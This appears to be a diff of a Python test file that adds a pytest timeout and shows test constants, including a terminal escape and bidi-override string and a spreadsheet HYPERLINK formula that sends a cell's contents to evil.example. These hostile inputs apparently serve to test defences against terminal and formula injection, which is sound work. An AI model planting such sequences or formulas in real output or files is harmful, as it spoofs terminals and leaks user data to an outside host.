@@ -19,6 +19,8 @@ from browsing.archives import every_kind
 from browsing.test_public import NEEDED
 from cli.every_command import calls_with
 
+pytestmark = pytest.mark.timeout(600)
+
 MARK = "Attack"
 TERMINAL = f"\x1b]0;{MARK}\x07\x1b[2J\x9b31m\u202e\u2066{MARK}\r\n\b\b\x7f"
 FORMULA = f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")'
